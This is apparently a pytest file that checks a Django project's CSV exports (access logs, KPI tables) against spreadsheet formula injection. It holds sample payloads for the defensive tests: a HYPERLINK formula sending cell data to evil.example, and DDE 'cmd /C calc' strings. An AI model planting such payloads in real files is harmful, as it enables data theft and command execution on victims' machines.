"""Every CSV the project writes opens in a spreadsheet as data: a cell that a spreadsheet would
run as a formula (starting with =, +, -, @, a tab or a carriage return) gets a quote in front;
a plain number, negative or with a decimal comma, stays a number."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse

from kernteam.csv_safe import FORMULA_START, safe_cell, writer
from kernteam.roles import LOG_OFFICERS
from steps import kpi
from steps.kpi.scope import Table
from tests.factories import MembershipFactory, UserFactory

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+31 6 1234", "'+31 6 1234"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Janssen", "Janssen"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        # numbers are data, whatever their sign
        (-3, "-3"),
        (-1.5, "-1.5"),
        ("-3", "-3"),
        ("+2", "+2"),
        ("-1,5", "-1,5"),
        ("-0.25", "-0.25"),
    ],
)
def test_a_cell_that_would_run_gets_a_quote_and_a_number_stays(value, written):
    assert safe_cell(value) == written


def read(response) -> list[list[str]]:
    """The rows of an export in the project's one dialect: a byte-order mark, ";" between
    fields, every field quoted."""
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads UTF-8 (accented names) only with it
    lines = text[1:].split("\r\n")
    assert lines[-1] == "" and all(
        line.startswith('"') and line.endswith('"') for line in lines[:-1]
    )
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


SPLIT_ON_SEMICOLON = "Jan;=cmd|' /C calc'!A0"
SPLIT_ON_COMMA = "Jan,=cmd|' /C calc'!A0"


def test_a_cell_stays_whole_whichever_separator_a_spreadsheet_splits_on():
    """Unquoted, `Jan;=cmd|...` in a comma file is two cells for a Dutch Excel, the second a
    formula (and `Jan,=cmd|...` in a ";" file for any other): every field is quoted."""
    stream = io.StringIO()
    writer(stream).writerow([SPLIT_ON_SEMICOLON, SPLIT_ON_COMMA, -3, "Müller"])
    assert stream.getvalue() == (
        '\ufeff"Jan;=cmd|\' /C calc\'!A0";"Jan,=cmd|\' /C calc\'!A0";"-3";"Müller"\r\n'
    )


@pytest.mark.parametrize("name", [FORMULA, SPLIT_ON_SEMICOLON, SPLIT_ON_COMMA])
def test_the_access_log_export_writes_no_formula(client, daalhof, resident_in, name):
    janssen = resident_in("step2", last_name="Janssen")
    prankster = UserFactory(username="grap", first_name=name, last_name="")
    MembershipFactory(team=daalhof.team, user=prankster, role="gp")
    client.force_login(prankster)
    assert client.get(reverse("resident", args=[janssen.pk])).status_code == 200
    officer = UserFactory(username="logfunctionaris")
    officer.groups.add(Group.objects.get_or_create(name=LOG_OFFICERS)[0])
    client.force_login(officer)
    response = client.get(reverse("resident_access", args=[janssen.pk]), {"format": "csv"})
    rows = read(response)
    who = [row[1] for row in rows[1:]]
    written = "'" + name if name == FORMULA else name
    quoted = '"' + written.replace('"', '""') + '"'
    assert written in who and quoted in response.content.decode()
    assert all(not cell.startswith(FORMULA_START) for row in rows for cell in row)


@pytest.fixture
def poisoned_kpi(monkeypatch):
    """A KPI table with text a spreadsheet would run, and negative figures."""

    class Poisoned:
        def table(self) -> Table:
            return Table(
                ["=1+1", "measure"],
                [["@SUM(A1)", -3], ["-2+3", -1.5], ["\tx", "-4"], [SPLIT_ON_COMMA, 2]],
            )

    monkeypatch.setattr(kpi, "kpi", lambda name, **kwargs: Poisoned())


@pytest.mark.parametrize("name", sorted(kpi.KPIS))
def test_every_kpi_export_writes_no_formula_and_keeps_negative_figures(
    client, daalhof, poisoned_kpi, name
):
    client.force_login(daalhof.coordinator)
    response = client.get(reverse("kpi_csv", args=[name]), {"team": "daalhof"})
    assert read(response) == [
        ["'=1+1", "measure"],
        ["'@SUM(A1)", "-3"],
        ["'-2+3", "-1,5"],
        ["'\tx", "-4"],
        [SPLIT_ON_COMMA, "2"],
    ]
    assert f'"{SPLIT_ON_COMMA}";"2"' in response.content.decode()
